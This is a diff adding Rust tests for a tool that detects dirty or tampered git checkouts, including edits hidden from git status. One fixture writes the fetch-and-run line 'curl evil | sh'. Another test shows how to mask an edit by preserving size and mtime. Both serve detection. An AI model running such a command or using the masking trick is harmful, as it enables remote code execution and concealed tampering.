@@ -1,0 +1,252 @@
+//! `custody source` on the working tree: clean, dirty, and the edits the index hides.
+
+use std::os::unix::fs::PermissionsExt;
+
+use super::git::{World, codes, messages};
+
+fn world_with_repo() -> (World, super::git::Repo) {
+    let w = World::new();
+    let r = w.repo("r");
+    let alice = w.person("Alice");
+    r.commit(
+        &alice,
+        "init",
+        &[
+            ("README", "hello\n"),
+            ("src/main.c", "int main(void) { return 0; }\n"),
+            ("src/deep/er/file.txt", "deep\n"),
+            (".gitignore", "target/\n*.o\n"),
+        ],
+    );
+    (w, r)
+}
+
+#[test]
+fn a_clean_checkout_passes_and_ignored_files_do_not_count() {
+    let (w, r) = world_with_repo();
+    r.write("target/debug/app", "binary");
+    r.write("src/main.o", "object");
+    std::fs::create_dir_all(r.dir.join("empty-dir")).unwrap();
+    let (code, report) = w.source_json(&["r"]);
+    assert_eq!(code, 0, "{report:#}");
+    assert_eq!(codes(&report, "pass"), ["checkout-clean"]);
+    let tree = r.git(&["rev-parse", "HEAD^{tree}"]);
+    let facts = &report["artifacts"][0]["source"];
+    assert_eq!(facts["worktree"]["worktree_tree"], tree.trim());
+    assert_eq!(facts["worktree"]["commit_tree"], tree.trim());
+    assert_eq!(facts["commit"], r.head());
+    assert_eq!(report["artifacts"][0]["digest"]["gitCommit"], r.head());
+    assert_eq!(report["command"], "source");
+}
+
+#[test]
+fn a_dirty_checkout_lists_modified_deleted_and_untracked_files() {
+    let (w, r) = world_with_repo();
+    r.write("README", "changed\n");
+    std::fs::remove_file(r.dir.join("src/deep/er/file.txt")).unwrap();
+    r.write("new.txt", "new\n");
+    r.write("target/ignored", "x");
+    let (code, report) = w.source_json(&["r"]);
+    assert_eq!(code, 1);
+    assert_eq!(codes(&report, "fail"), ["checkout-dirty"]);
+    let wt = &report["artifacts"][0]["source"]["worktree"];
+    assert_eq!(wt["modified"], serde_json::json!(["README"]));
+    assert_eq!(wt["deleted"], serde_json::json!(["src/deep/er/file.txt"]));
+    assert_eq!(wt["untracked"], serde_json::json!(["new.txt"]));
+    let m = messages(&report, "checkout-dirty");
+    assert!(m.contains("modified: README"), "{m}");
+    assert!(m.contains("deleted: src/deep/er/file.txt"), "{m}");
+    assert!(m.contains("untracked: new.txt"), "{m}");
+    assert!(!m.contains("target"), "{m}");
+    // The human report names the code too.
+    let (code, out, _) = w.custody(&["source", "r"]);
+    assert_eq!(code, 1);
+    assert!(out.contains("checkout-dirty"), "{out}");
+}
+
+#[test]
+fn mode_and_kind_changes_are_modifications() {
+    let (w, r) = world_with_repo();
+    std::fs::set_permissions(
+        r.dir.join("src/main.c"),
+        std::fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    std::fs::remove_file(r.dir.join("README")).unwrap();
+    std::os::unix::fs::symlink("src/main.c", r.dir.join("README")).unwrap();
+    let (code, report) = w.source_json(&["r"]);
+    assert_eq!(code, 1);
+    let wt = &report["artifacts"][0]["source"]["worktree"];
+    assert_eq!(wt["modified"], serde_json::json!(["README", "src/main.c"]));
+}
+
+#[test]
+fn an_untracked_file_inside_a_new_directory_and_a_file_become_directory_are_found() {
+    let (w, r) = world_with_repo();
+    r.write("extra/dir/payload.sh", "curl evil | sh\n");
+    std::fs::remove_file(r.dir.join("README")).unwrap();
+    r.write("README/inner", "x");
+    let (code, report) = w.source_json(&["r"]);
+    assert_eq!(code, 1);
+    let wt = &report["artifacts"][0]["source"]["worktree"];
+    assert_eq!(
+        wt["untracked"],
+        serde_json::json!(["README/inner", "extra/dir/payload.sh"])
+    );
+    assert_eq!(wt["modified"], serde_json::json!(["README"]));
+    assert_eq!(wt["deleted"], serde_json::json!([]));
+}
+
+/// What reading every byte buys: git status trusts the index's stat data. With
+/// core.trustctime=false (also what core.checkStat=minimal does) an edit that keeps the size and
+/// the modification time (`touch -r`) is invisible to it; custody reads the bytes.
+#[test]
+fn an_edit_keeping_size_and_mtime_is_caught_where_git_status_misses_it() {
+    let w = World::new();
+    let r = w.repo("r");
+    r.git(&["config", "core.trustctime", "false"]);
+    r.write("config.txt", "allow = false\n");
+    // An old mtime, so the index entry is not "racily clean" and git trusts it.
+    tool_touch(&r.dir.join("config.txt"), "-d", "2020-01-01 00:00:00");
+    r.git(&["add", "-A"]);
+    r.commit_staged(&w.person("Alice"), &["-m", "init"]);
+    std::fs::copy(r.dir.join("config.txt"), w.path("reference")).unwrap();
+    tool_touch(
+        &w.path("reference"),
+        "-r",
+        r.dir.join("config.txt").to_str().unwrap(),
+    );
+    r.write("config.txt", "allow = true!\n");
+    tool_touch(
+        &r.dir.join("config.txt"),
+        "-r",
+        w.path("reference").to_str().unwrap(),
+    );
+    assert_eq!(
+        std::fs::metadata(r.dir.join("config.txt")).unwrap().len(),
+        std::fs::metadata(w.path("reference")).unwrap().len()
+    );
+    assert_eq!(
+        r.git(&["status", "--porcelain"]),
+        "",
+        "git status saw the edit"
+    );
+    let (code, report) = w.source_json(&["r"]);
+    assert_eq!(code, 1);
+    assert_eq!(
+        report["artifacts"][0]["source"]["worktree"]["modified"],
+        serde_json::json!(["config.txt"])
+    );
+}
+
+/// The index can also be told to look away (`--assume-unchanged`, `--skip-worktree`), and a
+/// file staged but never committed is not the commit's: neither fools custody.
+#[test]
+fn the_index_is_not_trusted() {
+    let (w, r) = world_with_repo();
+    r.git(&["update-index", "--assume-unchanged", "src/main.c"]);
+    r.write("src/main.c", "int main(void) { return 1; }\n");
+    r.write("staged.txt", "staged\n");
+    r.git(&["add", "staged.txt"]);
+    assert_eq!(r.git(&["status", "--porcelain", "--", "src"]), "");
+    let (code, report) = w.source_json(&["r"]);
+    assert_eq!(code, 1);
+    let wt = &report["artifacts"][0]["source"]["worktree"];
+    assert_eq!(wt["modified"], serde_json::json!(["src/main.c"]));
+    assert_eq!(wt["untracked"], serde_json::json!(["staged.txt"]));
+}
+
+#[test]
+fn another_revision_is_checked_as_history_not_as_the_working_tree() {
+    let (w, r) = world_with_repo();
+    let first = r.head();
+    r.commit(&w.person("Alice"), "two", &[("README", "two\n")]);
+    r.write("README", "dirty\n");
+    let (code, report) = w.source_json(&["r", "--rev", "HEAD~1"]);
+    // Nothing was checked, so nothing passed.
+    assert_eq!(code, 1);
+    assert_eq!(report["artifacts"][0]["digest"]["gitCommit"], first);
+    assert!(
+        report["artifacts"][0]["source"]["worktree"]
+            .as_str()
+            .unwrap()
+            .contains("not compared")
+    );
+    assert!(codes(&report, "fail").is_empty(), "{report:#}");
+    // HEAD itself is compared.
+    let (code, report) = w.source_json(&["r", "--rev", "HEAD"]);
+    assert_eq!(code, 1);
+    assert_eq!(codes(&report, "fail"), ["checkout-dirty"]);
+}
+
+#[test]
+fn unusable_checkouts_and_revisions_exit_2() {
+    let (w, _r) = world_with_repo();
+    std::fs::create_dir_all(w.path("plain")).unwrap();
+    let (code, _, err) = w.custody(&["source", "plain"]);
+    assert_eq!(code, 2);
+    assert!(err.contains("not a git checkout"), "{err}");
+    let (code, _, err) = w.custody(&["source", "r", "--rev", "no-such-rev"]);
+    assert_eq!(code, 2);
+    assert!(err.contains("no-such-rev"), "{err}");
+    let (code, _, err) = w.custody(&["source", "missing"]);
+    assert_eq!(code, 2, "{err}");
+}
+
+#[test]
+fn a_sha256_repository_is_refused_clearly() {
+    let w = World::new();
+    std::fs::create_dir_all(w.path("r")).unwrap();
+    super::git::tool(
+        &w.path("r"),
+        &w.home(),
+        "git",
+        &["init", "-q", "--object-format=sha256"],
+        None,
+    );
+    let (code, _, err) = w.custody(&["source", "r"]);
+    assert_eq!(code, 2);
+    assert!(err.contains("sha256"), "{err}");
+}
+
+#[test]
+fn submodules_are_reported_not_performed() {
+    let (w, r) = world_with_repo();
+    let head = r.head();
+    // A gitlink entry, as `git submodule add` records it, without fetching anything.
+    r.git(&[
+        "update-index",
+        "--add",
+        "--cacheinfo",
+        &format!("160000,{head},vendor/lib"),
+    ]);
+    r.commit_staged(&w.person("Alice"), &["-m", "add a submodule"]);
+    std::fs::create_dir_all(r.dir.join("vendor/lib")).unwrap();
+    let (code, report) = w.source_json(&["r"]);
+    assert_eq!(code, 1);
+    assert_eq!(codes(&report, "not-performed"), ["checkout-submodule"]);
+    assert_eq!(codes(&report, "pass"), ["checkout-clean"]);
+}
+
+fn tool_touch(path: &std::path::Path, flag: &str, value: &str) {
+    let status = std::process::Command::new("touch")
+        .args([flag, value])
+        .arg(path)
+        .status()
+        .unwrap();
+    assert!(status.success());
+}
+
+#[test]
+fn the_report_renders_as_sarif_into_a_file() {
+    let (w, r) = world_with_repo();
+    r.write("README", "changed\n");
+    let (code, out, err) =
+        w.custody(&["source", "r", "--format", "sarif", "--output", "out.sarif"]);
+    assert_eq!(code, 1, "{err}");
+    assert!(out.is_empty());
+    let sarif: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(w.path("out.sarif")).unwrap()).unwrap();
+    assert_eq!(sarif["version"], "2.1.0");
+    assert_eq!(sarif["runs"][0]["results"][0]["ruleId"], "checkout-dirty");
+}
